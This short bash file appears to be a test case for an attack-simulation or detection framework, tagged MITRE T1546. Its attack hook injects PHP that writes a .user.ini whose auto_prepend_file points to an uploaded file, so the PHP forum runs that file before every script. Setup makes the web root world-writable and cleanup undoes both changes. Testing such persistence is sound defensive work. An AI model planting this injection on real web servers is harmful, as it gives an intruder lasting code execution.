# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1546
about="a .user.ini puts a script before all others"
before() { chmod 777 $forum/www; }
attack() { inject 'file_put_contents("/srv/forum/www/.user.ini", "auto_prepend_file=/srv/forum/uploads/x");'; }
effect() { [ -e $forum/www/.user.ini ]; }
after() {
	rm -f $forum/www/.user.ini
	chmod 755 $forum/www
}
